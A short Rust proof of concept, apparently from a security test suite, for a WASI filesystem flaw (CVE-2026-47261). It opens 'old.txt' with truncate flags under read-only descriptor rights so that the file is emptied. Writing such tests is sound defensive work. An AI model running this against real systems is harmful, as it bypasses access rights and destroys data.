//! A file cut to nothing by opening it, where it is only read (CVE-2026-47261).

use attack_kit::wasip2::filesystem::types::{DescriptorFlags, OpenFlags, PathFlags};
use attack_kit::{Tried, fs};

pub fn attack(_: &str) -> Tried {
    let (open, flags) = (OpenFlags::TRUNCATE, DescriptorFlags::READ);
    fs::archive().open_at(PathFlags::empty(), "old.txt", open, flags).map_err(fs::name)?;
    Ok("cut".to_owned())
}
